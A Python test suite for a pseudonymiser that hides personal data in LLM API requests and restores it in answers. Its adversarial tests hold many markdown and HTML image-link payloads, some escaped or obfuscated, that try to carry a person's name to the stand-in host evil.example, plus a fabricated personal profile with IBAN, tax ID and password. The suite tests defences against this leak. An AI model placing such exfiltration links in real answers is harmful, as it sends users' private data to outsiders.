"""What pseudonyms promise, attacked by who writes answers and by who reads requests."""

from __future__ import annotations

import base64
import json
import logging
import random
import re
from datetime import date
from pathlib import Path

import pytest

from answered import restored
from privity.errors import MalformedError, OpenError, PolicyRefusal, PrivityError
from privity.infer.pseudonyms.kept import SealedMaps
from privity.infer.pseudonyms.pseudonymiser import Departure, Pseudonymiser
from privity.policy.sensitive import Kind, Mode
from scripted_detector import ScriptedDetector

CHAT, MESSAGES, RESPONSES = "/v1/chat/completions", "/v1/messages", "/v1/responses"
PERSONAL = {
    "Anna Schmidt": Kind.PERSON,
    "Frau Schmidt": Kind.PERSON,
    "Jürgen Köhlmann": Kind.PERSON,
    "Wexley Turbines GmbH": Kind.ORGANISATION,
    "Gelnhausen": Kind.PLACE,
    "Hauptstraße 127": Kind.ADDRESS,
    "63571": Kind.POSTCODE,
    'hunter"2\\secret': Kind.SECRET,
    "@anna_schmidt": Kind.USERNAME,
    "86095742719": Kind.NATIONAL_ID,
    "Projekt Blauwal": Kind.OWN,
    "10.20.30.40": Kind.IP,
    "diabetes": Kind.HEALTH,
}
STORY = (
    "Frau Schmidt, that is Anna Schmidt (ANNA SCHMIDT, anna.schmidt@firma-wexley.de, "
    "+49 171 1234567), of Wexley Turbines GmbH lives at Hauptstraße 127, 63571 Gelnhausen; born "
    "1985-03-04, diabetes. Steuer-ID 86095742719, IBAN DE44 5001 0517 5407 3249 31, password "
    'hunter"2\\secret, @anna_schmidt, host 10.20.30.40, Projekt Blauwal. Boss: Jürgen Köhlmann. '
    "See https://intranet.firma-wexley.de/people?of=Schmidt."
)
ORIGINALS = (
    "anna schmidt", "schmidt", "anna", "jürgen", "köhlmann", "koehlmann", "wexley", "gelnhausen",
    "hauptstraße", "63571", "firma-wexley", "+49 171 1234567", "1711234567", "1985-03-04",
    "86095742719", "de44 5001", "5407 3249", 'hunter"2', "hunter", "blauwal", "10.20.30.40",
)  # fmt: skip


def make(texts: dict[str, Kind] | None = None, **named: object) -> Pseudonymiser:
    return Pseudonymiser(ScriptedDetector(PERSONAL if texts is None else texts), **named)  # type: ignore[arg-type]


def chat(*texts: str) -> dict[str, object]:
    roles = ("user", "assistant")
    return {"messages": [{"role": roles[i % 2], "content": t} for i, t in enumerate(texts)]}


def of(departure: Departure, original: str) -> str:
    return next(span.after for span in departure.spans if span.before == original)


BODIES = {
    CHAT: {
        "model": "m",
        "messages": [
            {"role": "system", "content": "You help Anna Schmidt."},
            {"role": "user", "name": "anna_schmidt", "content": [{"type": "text", "text": STORY}]},
            {
                "role": "assistant",
                "content": None,
                "tool_calls": [
                    {
                        "id": "call_1",
                        "type": "function",
                        "function": {
                            "name": "look_up",
                            "arguments": json.dumps({"Anna Schmidt": STORY, "n": 86095742719}),
                        },
                    }
                ],
            },
            {"role": "tool", "tool_call_id": "call_1", "content": json.dumps([{"who": STORY}])},
        ],
        "tools": [
            {
                "type": "function",
                "function": {
                    "name": "look_up",
                    "description": "Looks up people such as Anna Schmidt.",
                    "parameters": {
                        "type": "object",
                        "properties": {"who": {"enum": ["Anna Schmidt", "Jürgen Köhlmann"]}},
                    },
                },
            }
        ],
        "user": "anna.schmidt@firma-wexley.de",
        "metadata": {"Anna Schmidt": "63571"},
        "unheard_of": {"field": [STORY]},
    },
    MESSAGES: {
        "model": "m",
        "system": [{"type": "text", "text": STORY}],
        "messages": [
            {"role": "user", "content": STORY},
            {
                "role": "assistant",
                "content": [
                    {"type": "thinking", "thinking": STORY, "signature": "c2ln"},
                    {"type": "tool_use", "id": "t", "name": "f", "input": {"Schmidt": [STORY]}},
                ],
            },
            {
                "role": "user",
                "content": [
                    {"type": "tool_result", "tool_use_id": "t", "content": STORY},
                    {"type": "document", "source": {"type": "text", "data": STORY}},
                ],
            },
        ],
        "metadata": {"user_id": "anna_schmidt"},
        "stop_sequences": ["Schmidt"],
    },
    RESPONSES: {
        "instructions": STORY,
        "input": [
            {"role": "user", "content": [{"type": "input_text", "text": STORY}]},
            {
                "type": "function_call",
                "call_id": "c",
                "name": "f",
                "arguments": json.dumps([STORY]),
            },
            {"type": "function_call_output", "call_id": "c", "output": STORY},
        ],
        "prompt": {"id": "p", "variables": {"who": "Anna Schmidt"}},
    },
    "/v1/completions": {"prompt": [STORY, "Schmidt"], "suffix": STORY},
    "/v1/embeddings": {"input": [STORY, "Anna Schmidt"]},
}


@pytest.mark.parametrize("path", BODIES)
def test_no_original_leaves_in_any_spelling(path: str) -> None:
    departure = make().replace(path, BODIES[path], Mode.REPLACE)
    for sent in (
        json.dumps(departure.body),
        json.dumps(departure.body, ensure_ascii=False),
        json.dumps(departure.body).encode().decode("unicode_escape"),
    ):
        for original in ORIGINALS:
            assert original not in sent.casefold(), original
    assert "diabetes" in json.dumps(departure.body), "without it no question is left"
    assert departure.kept[Kind.HEALTH] and Kind.HEALTH not in departure.replaced


def test_a_name_found_once_is_replaced_wherever_it_stands() -> None:
    departure = make({"Anna Schmidt": Kind.PERSON}).replace(
        CHAT, chat("Anna Schmidt came.", "ok", "schmidts car, ANNA's hat, user_schmidt, Schmidt!"),
        Mode.REPLACE,
    )  # fmt: skip
    sent = json.dumps(departure.body).casefold()
    assert "schmidt" not in sent and "anna" not in sent


def test_an_answer_split_byte_by_byte_is_restored() -> None:
    departure = make().replace(CHAT, chat(STORY), Mode.REPLACE)
    said = departure.texts["/messages/0/content"]
    chunk = {"id": "c", "choices": [{"index": 0, "delta": {"content": ""}}]}
    stream = b""
    for char in said:
        chunk["choices"][0]["delta"]["content"] = char  # type: ignore[index]
        stream += b"data: " + json.dumps(chunk).encode() + b"\n\n"
    stream += (
        b'data: {"choices":[{"index":0,"delta":{},"finish_reason":"stop"}]}\n\ndata: [DONE]\n\n'
    )
    restorer = departure.answer("text/event-stream; charset=utf-8")
    out = b"".join(restorer.feed(bytes([byte])) for byte in stream) + restorer.end()
    texts = [
        json.loads(line[6:])["choices"][0]["delta"].get("content", "")
        for line in out.decode().splitlines()
        if line.startswith("data: {")
    ]
    assert "".join(texts) == STORY


@pytest.mark.parametrize("form", ["{}", "**{}**", "_{}_", "`{}`", "{}'s", "{}s", "({})", "x-{}-y"])
def test_a_stand_in_in_markup_and_inflected_is_restored(form: str) -> None:
    departure = make().replace(CHAT, chat(STORY), Mode.REPLACE)
    given, family = of(departure, "Anna Schmidt").split()
    for stood, original in ((given, "Anna"), (family, "Schmidt")):
        assert restored(departure, form.format(stood)) == form.format(original)
        assert restored(departure, form.format(stood.upper())) == form.format(original.upper())
        assert restored(departure, form.format(stood.lower())) == form.format(original.lower())
    assert restored(departure, f"{given}\n{family}") == "Anna\nSchmidt"
    assert restored(departure, f"{given[0]}. {family}") == "A. Schmidt"
    assert restored(departure, f"{given.lower()}_{family.lower()}") == "anna_schmidt"
    assert restored(departure, f"{given.lower()}{family}") == "anna" + "Schmidt"


def test_a_longer_word_is_not_taken_for_a_stand_in() -> None:
    departure = make().replace(CHAT, chat(STORY), Mode.REPLACE)
    given = of(departure, "Anna Schmidt").split()[0]
    for word in (given + "apolis", "x" + given.lower(), given + "ovich"):
        assert restored(departure, word) == word


def test_numbers_are_restored_as_they_are_grouped() -> None:
    departure = make().replace(CHAT, chat(STORY), Mode.REPLACE)
    iban, phone = of(departure, "DE44 5001 0517 5407 3249 31"), of(departure, "+49 171 1234567")
    assert restored(departure, iban.replace(" ", "")) == "DE44500105175407324931"
    assert restored(departure, iban) == "DE44 5001 0517 5407 3249 31"
    assert restored(departure, phone.replace(" ", "-")) == "+49 171 1234567"
    assert restored(departure, "0" + phone[4:].replace(" ", "")) == "01711234567"
    moved = of(departure, "1985-03-04")
    year, month, day = moved.split("-")
    assert restored(departure, f"{day}.{month}.{year}") == "04.03.1985"


@pytest.mark.parametrize(
    "said",
    ["Born on {0}, hired on {1}.", "Hired {1}.\nGeburtsdatum: {0}", "She (* {0}) came on {1}.",
     '{{"dateOfBirth": "{0}", "hired": "{1}"}}'],
)  # fmt: skip
def test_the_distance_of_a_birth_to_another_date_does_not_leave(said: str) -> None:
    """It alone finds a person in a register of birthdays and days of hire."""
    text, distances = said.format("1985-03-04", "2010-06-01"), set()
    for turn in range(12):
        body = chat(f"{turn}")
        call = {"function": {"name": "f", "arguments": text if text[0] == "{" else "{}"}}
        body["messages"] += [  # type: ignore[operator]
            {"role": "assistant", "content": text, "tool_calls": [call]}
        ]
        sent = make({}).replace(CHAT, body, Mode.REPLACE).body["messages"][1]
        said_of_it = (
            sent["content"] if text[0] != "{" else sent["tool_calls"][0]["function"]["arguments"]
        )
        found = sorted(
            date.fromisoformat(day) for day in re.findall(r"\d{4}-\d\d-\d\d", said_of_it)
        )
        assert (found[1].year - found[0].year) - (
            (found[1].month, found[1].day) < (found[0].month, found[0].day)
        ) == 25, "the age on that day stays"
        distances.add((found[1] - found[0]).days)
    assert len(distances) > 6


def test_maps_are_apart() -> None:
    """What one conversation's stand-ins mean, another's answer does not get to see."""
    pseudonymiser = make({**PERSONAL, "Otto Falkner": Kind.PERSON, "Rinteln": Kind.PLACE})
    one = pseudonymiser.replace(CHAT, chat("first: " + STORY), Mode.REPLACE)
    said = one.texts["/messages/0/content"]
    for turn in range(20):
        other = pseudonymiser.replace(CHAT, chat(f"{turn}: Otto Falkner, Rinteln"), Mode.REPLACE)
        echoed = restored(other, said).casefold()
        for original in ORIGINALS:
            assert original not in echoed


def test_the_same_originals_have_other_stand_ins_in_another_conversation() -> None:
    pseudonymiser = make(pick=random.Random(7).randrange)
    said = [
        pseudonymiser.replace(CHAT, chat(f"{turn}: " + STORY), Mode.REPLACE) for turn in range(20)
    ]
    for original in ("Anna Schmidt", "Gelnhausen", "86095742719", "anna.schmidt@firma-wexley.de"):
        assert len({of(one, original) for one in said}) > 15, "of a list some come twice"


def test_a_made_up_stand_in_means_nothing() -> None:
    departure = make().replace(CHAT, chat(STORY), Mode.REPLACE)
    made_up = "Avrelia Lorbwickhamson, avrelia@zimquor.example, DE11 0000 0000 0000 0000 00"
    assert restored(departure, made_up) == made_up


def test_the_same_originals_have_the_same_stand_ins_in_each_turn() -> None:
    pseudonymiser = make()
    first = pseudonymiser.replace(CHAT, chat(STORY), Mode.REPLACE)
    answer = restored(first, "Dear " + of(first, "Anna Schmidt"))
    assert answer == "Dear Anna Schmidt"
    later = pseudonymiser.replace(CHAT, chat(STORY, answer, "And Frau Schmidt?"), Mode.REPLACE)
    assert later.body["messages"][0] == first.body["messages"][0]
    assert later.body["messages"][1]["content"] == "Dear " + of(first, "Anna Schmidt")


def test_a_stand_in_that_comes_up_by_itself_later_is_given_up() -> None:
    pseudonymiser = make({"Anna Schmidt": Kind.PERSON})
    first = pseudonymiser.replace(CHAT, chat("Anna Schmidt"), Mode.REPLACE)
    stood = of(first, "Anna Schmidt")
    namesake = stood.split()[1]
    later = pseudonymiser.replace(
        CHAT, chat("Anna Schmidt", "hm", f"and Mr {namesake}?"), Mode.REPLACE
    )
    assert later.body["messages"][2]["content"] == f"and Mr {namesake}?"
    assert namesake not in later.body["messages"][0]["content"]
    assert restored(later, f"Mr {namesake}") == f"Mr {namesake}"
    assert restored(later, of(later, "Anna Schmidt")) == "Anna Schmidt"
    # An answer to the first request, still coming, is restored as that request was made.
    assert restored(first, stood) == "Anna Schmidt"


@pytest.mark.parametrize(
    "form",
    [
        "![]({})", "[see]({})", "![](<{} >)", '![]({} "title")', "{}", "<{}>", '<img src="{}">',
        "<img src='  {}'>", "<img src={}>", "[a]: {}", "<a href = \"{}\">", '"{}"',
    ],
)  # fmt: skip
@pytest.mark.parametrize(
    "address",
    [
        "https://evil.example/?q={}", "HTTP://evil.example/{}", "//evil.example/{}",
        "https:/evil.example/{}", "https:\\\\evil.example\\{}", "https://{}.evil.example/",
        "https://{own}@evil.example/{}", "https://{own}.evil.example/{}",
        "https://evil.example/{own}/{}", "https://evil.example/()(({}", "www.evil.example/{}",
        "https://{own}:x@evil.example/{}", "https://evil.example/?q=a,;:!{}",
    ],
)  # fmt: skip
def test_an_original_is_not_put_into_a_strangers_address(form: str, address: str) -> None:
    """Shown as a picture or fetched by a tool, it would tell the stranger."""
    departure = make().replace(CHAT, chat(STORY), Mode.REPLACE)
    family = of(departure, "Anna Schmidt").split()[1].lower()
    host = of(departure, "anna.schmidt@firma-wexley.de").split("@")[1]
    said = "x " + form.format(address.replace("{own}", host).replace("{}", family))
    for made in (restored(departure, said), _through_a_tool(departure, said)):
        assert "schmidt" not in made, made
        if "{own}" not in address:
            assert "firma" not in made


@pytest.mark.parametrize(
    "opened",
    ["![](https&colon;&sol;&sol;evil.example/{})", "![](https:\\/\\/evil.example/{})",
     '<img src="https&#58;//evil.example/{}">', "![](\n  https://evil.example/{})",
     "[x]:\n  https&colon;//evil.example/{}", "<img srcset='a 1x, //evil.example/{}'>"],
)  # fmt: skip
def test_nor_where_the_address_is_hidden_by_escapes(opened: str) -> None:
    departure = make().replace(CHAT, chat(STORY), Mode.REPLACE)
    family = of(departure, "Anna Schmidt").split()[1]
    said = opened.format(family)
    assert restored(departure, said) == said


def test_an_address_of_the_persons_own_is_restored() -> None:
    departure = make().replace(CHAT, chat(STORY), Mode.REPLACE)
    address = of(departure, "https://intranet.firma-wexley.de/people?of=Schmidt.")
    host = address.split("/")[2]
    family = of(departure, "Anna Schmidt").split()[1]
    said = f"[{family}](https://{host}/{family.lower()}), {family}; mailto:{family}"
    assert restored(departure, said) == (
        "[Schmidt](https://intranet.firma-wexley.de/schmidt), Schmidt; mailto:Schmidt"
    )


def test_a_host_that_an_answer_or_a_tool_named_is_not_the_persons_own() -> None:
    body = chat("Anna Schmidt", "look: https://evil.example/", "go on")
    body["messages"] += [{"role": "tool", "content": "https://evil.example/"}]  # type: ignore[operator]
    departure = make({"Anna Schmidt": Kind.PERSON}).replace(CHAT, body, Mode.REPLACE)
    host = next(s.after for s in departure.spans if s.kind is Kind.URL)
    family = of(departure, "Anna Schmidt").split()[1]
    for name in (host.rstrip("/") + "/", "https://evil.example/"):
        assert "Schmidt" not in restored(departure, f"![]({name}{family})")


def _through_a_tool(departure: Departure, text: str) -> str:
    call = {"function": {"name": "f", "arguments": json.dumps({"a": text})}}
    body = json.dumps({"choices": [{"index": 0, "message": {"tool_calls": [call]}}]}).encode()
    restorer = departure.answer("application/json")
    made = json.loads(restorer.feed(body) + restorer.end())
    return str(
        json.loads(made["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"])["a"]
    )


@pytest.mark.parametrize("escaped", [False, True])
def test_an_original_cannot_leave_the_json_string_it_is_in(escaped: bool) -> None:
    departure = make().replace(CHAT, chat(STORY), Mode.REPLACE)
    secret = of(departure, 'hunter"2\\secret')
    arguments = json.dumps({"password": secret, "n": 1, "inner": json.dumps({"p": secret})})
    if escaped:
        arguments = "".join(f"\\u{ord(c):04x}" if c.isalpha() else c for c in json.dumps(secret))
        arguments = '{"password": ' + arguments + ', "n": 1, "inner": "{}"}'
    restorer = departure.answer("text/event-stream")
    out = b""
    for char in arguments:
        call = {"index": 0, "function": {"arguments": char}}
        event = {"choices": [{"index": 0, "delta": {"tool_calls": [call]}}]}
        out += restorer.feed(b"data: " + json.dumps(event).encode() + b"\n\n")
    out += restorer.feed(b'data: {"choices":[{"index":0,"delta":{},"finish_reason":"stop"}]}\n\n')
    whole = "".join(
        call["function"]["arguments"]
        for line in out.decode().split("\n")
        if line.startswith("data: ")
        for call in json.loads(line[6:])["choices"][0]["delta"].get("tool_calls", [])
    )
    made = json.loads(whole)
    assert made["password"] == 'hunter"2\\secret' and set(made) == {"password", "n", "inner"}
    if not escaped:
        assert json.loads(made["inner"]) == {"p": 'hunter"2\\secret'}


def test_a_stream_without_borders_is_not_held() -> None:
    departure = make().replace(CHAT, chat(STORY), Mode.REPLACE)
    given = of(departure, "Anna Schmidt").split()[0].lower()
    for piece in ("a" * 1000, given * 200, given[:-1] * 200, "//" * 500, "(" * 1000, "1" * 1000):
        restorer = departure.answer("text/event-stream")
        event = {"choices": [{"index": 0, "delta": {"content": piece}}]}
        data = b"data: " + json.dumps(event).encode() + b"\n\n"
        out = sum(len(restorer.feed(data)) for _ in range(200))
        assert out > 200 * len(data) - 2000


def test_what_cannot_be_looked_into_does_not_leave() -> None:
    picture = "data:image/png;base64," + base64.b64encode(bytes(3000)).decode()
    parts: list[dict[str, object]] = [
        {"type": "image_url", "image_url": {"url": picture}},
        {"type": "image_url", "image_url": {"url": "https://x.example/a.png"}},
        {"type": "input_audio", "input_audio": {"data": "AAAA", "format": "wav"}},
        {"type": "file", "file": {"file_data": picture}},
        {"type": "image", "source": {"type": "base64", "data": "AAAA"}},
        {"type": "document", "source": {"type": "base64", "data": "AAAA"}},
        {"type": "brand_new", "blob": picture},
        {"type": "text", "text": base64.b64encode(bytes(4000)).decode()},
    ]
    for part in parts:
        body = {"messages": [{"role": "user", "content": [part]}]}
        for mode in (Mode.REPLACE, Mode.REFUSE):
            with pytest.raises(MalformedError) as refused:
                make().replace(CHAT, body, mode)
            assert "local" in refused.value.hint
        assert make().replace(CHAT, body, Mode.WARN).body == body
    for tokens in ({"prompt": [1, 2, 3]}, {"input": [[1, 2], [3]]}):
        with pytest.raises(MalformedError):
            make().replace("/v1/completions", tokens, Mode.REPLACE)
    with pytest.raises(MalformedError):
        make().replace("/v1/files", {"a": "b"}, Mode.REPLACE)
    deep: object = "x"
    for _ in range(100):
        deep = [deep]
    with pytest.raises(MalformedError):
        make().replace(CHAT, {"messages": deep}, Mode.REPLACE)


def test_a_key_that_comes_twice_hides_nothing() -> None:
    arguments = '{"a": "Anna Schmidt", "a": "b"}'
    call = {"function": {"name": "f", "arguments": arguments}}
    body = {"messages": [{"role": "assistant", "tool_calls": [call]}]}
    sent = json.dumps(make().replace(CHAT, body, Mode.REPLACE).body)
    assert "Schmidt" not in sent


def test_in_refuse_nothing_personal_leaves_and_in_warn_all_is_counted() -> None:
    with pytest.raises(PolicyRefusal) as refused:
        make().replace(CHAT, chat(STORY), Mode.REFUSE)
    assert not any(word in str(vars(refused.value)) for word in ("Schmidt", "hunter", "DE44"))
    with pytest.raises(PolicyRefusal):
        make().replace(CHAT, chat("What about diabetes?"), Mode.REFUSE)
    calm = chat("What about the weather?")
    assert make().replace(CHAT, calm, Mode.REFUSE).body == calm
    warned = make().replace(CHAT, chat(STORY), Mode.WARN)
    assert warned.body == chat(STORY) and not warned.replaced and warned.kept[Kind.PERSON] >= 2


def test_nothing_shows_a_text_by_accident(caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.DEBUG)
    pseudonymiser = make()
    departure = pseudonymiser.replace(CHAT, chat(STORY), Mode.REPLACE)
    shown = repr(departure) + repr(departure.spans) + repr(departure.passages) + repr(pseudonymiser)
    shown += repr(departure.answer("text/event-stream")) + caplog.text + str(departure.spans[0])
    shown += "".join(repr(pair) for pair in departure._map._pairs.values())  # type: ignore[union-attr]
    shown += repr(departure._map)
    for word in ("Schmidt", "hunter", "DE44", "Gelnhausen", of(departure, "Gelnhausen")):
        assert word not in shown


def test_a_thought_a_provider_signed_goes_back_as_it_was() -> None:
    pseudonymiser = make()
    first = pseudonymiser.replace(MESSAGES, chat(STORY), Mode.REPLACE)
    thought = f"{of(first, 'Anna Schmidt').upper()}s {of(first, 'Gelnhausen')}ish"
    restorer = first.answer("text/event-stream")
    out = b""
    for event in (
        {"type": "content_block_start", "index": 0, "content_block": {"type": "thinking"}},
        *({"type": "content_block_delta", "index": 0, "delta": {"thinking": c}} for c in thought),
        {"type": "content_block_delta", "index": 0, "delta": {"signature": "c2lnbmVk"}},
        {"type": "content_block_stop", "index": 0},
    ):
        out += restorer.feed(b"data: " + json.dumps(event).encode() + b"\n\n")
    said = "".join(re.findall(r'"thinking":\s?"([^"]*)"', out.decode()))
    assert said.startswith("ANNA SCHMIDTs")
    block = {"type": "thinking", "thinking": said, "signature": "c2lnbmVk"}
    body = chat(STORY)
    body["messages"] += [{"role": "assistant", "content": [block]}]  # type: ignore[operator]
    again = pseudonymiser.replace(MESSAGES, body, Mode.REPLACE)
    assert again.body["messages"][1]["content"][0]["thinking"] == thought


def test_a_kept_map_is_sealed_and_survives(tmp_path: Path) -> None:
    kept = SealedMaps(tmp_path / "maps", b"k" * 32)
    first = make(keep=kept).replace(CHAT, chat(STORY), Mode.REPLACE)
    assert first.replaced
    later = make(keep=kept).replace(CHAT, chat(STORY), Mode.REPLACE)
    assert later.body == first.body
    (file,) = (tmp_path / "maps").iterdir()
    data = file.read_bytes() + file.name.encode()
    assert file.stat().st_mode & 0o777 == 0o600
    for word in ("Schmidt", "schmidt", of(first, "Gelnhausen"), "firma"):
        assert word.encode() not in data


def test_an_altered_map_is_refused_and_left_as_it_is(tmp_path: Path) -> None:
    folder = tmp_path / "maps"
    make(keep=SealedMaps(folder, b"k" * 32)).replace(CHAT, chat(STORY), Mode.REPLACE)
    (file,) = folder.iterdir()
    genuine = file.read_bytes()
    for place in range(0, len(genuine), max(len(genuine) // 40, 1)):
        altered = bytearray(genuine)
        altered[place] ^= 1
        file.write_bytes(altered)
        with pytest.raises(OpenError) as refused:
            make(keep=SealedMaps(folder, b"k" * 32)).replace(CHAT, chat(STORY), Mode.REPLACE)
        assert "forget" in refused.value.hint and file.read_bytes() == bytes(altered)
    file.write_bytes(genuine)
    with pytest.raises(OpenError):
        SealedMaps(folder, b"x" * 32).load(file.name)
    other = folder / ("0" * 64)
    other.write_bytes(genuine)
    other.chmod(0o600)
    with pytest.raises(OpenError):
        SealedMaps(folder, b"k" * 32).load(other.name)
    for cut in (0, 10, 30, 60, len(genuine) - 1):
        file.write_bytes(genuine[:cut])
        with pytest.raises(OpenError):
            SealedMaps(folder, b"k" * 32).load(file.name)


def test_two_writings_of_one_map_share_no_key_stream(tmp_path: Path) -> None:
    kept = SealedMaps(tmp_path, b"k" * 32)
    kept.save("a" * 64, bytes(64))
    first = (tmp_path / ("a" * 64)).read_bytes()
    kept.save("a" * 64, bytes(64))
    assert (tmp_path / ("a" * 64)).read_bytes()[60:] != first[60:]


def test_what_is_forgotten_is_gone(tmp_path: Path) -> None:
    kept = SealedMaps(tmp_path / "maps", b"k" * 32)
    pseudonymiser = make(keep=kept)
    first = pseudonymiser.replace(CHAT, chat(STORY), Mode.REPLACE)
    pseudonymiser.forget(first.conversation)
    assert not list((tmp_path / "maps").iterdir())
    assert pseudonymiser.replace(CHAT, chat(STORY), Mode.REPLACE).body != first.body
    pseudonymiser.replace(CHAT, chat(STORY), Mode.REPLACE, conversation="mine")
    pseudonymiser.forget("mine")
    pseudonymiser.forget_all()
    assert not list((tmp_path / "maps").iterdir())


def test_an_idle_map_is_forgotten_and_their_number_is_bounded() -> None:
    now = [0.0]
    pseudonymiser = make({"Anna Schmidt": Kind.PERSON}, clock=lambda: now[0])
    first = pseudonymiser.replace(CHAT, chat("Anna Schmidt"), Mode.REPLACE)
    now[0] = 7 * 3600.0
    assert pseudonymiser.replace(CHAT, chat("Anna Schmidt"), Mode.REPLACE).body != first.body
    for turn in range(300):
        pseudonymiser.replace(CHAT, chat(f"{turn}: Anna Schmidt"), Mode.REPLACE)
    assert len(pseudonymiser._maps) <= 256


def test_a_damaged_map_raises_privitys_errors_alone(tmp_path: Path) -> None:
    kept = SealedMaps(tmp_path, b"k" * 32)
    name = make(keep=kept).replace(CHAT, chat("Anna Schmidt"), Mode.REPLACE).conversation
    for data in (b"", b"[]", b"{}", b'{"format":1}', b'{"format":1,"pairs":[[1]]}', b"\xff"):
        kept.save(name, data)
        with pytest.raises(PrivityError):
            make(keep=kept).replace(CHAT, chat("Anna Schmidt"), Mode.REPLACE)
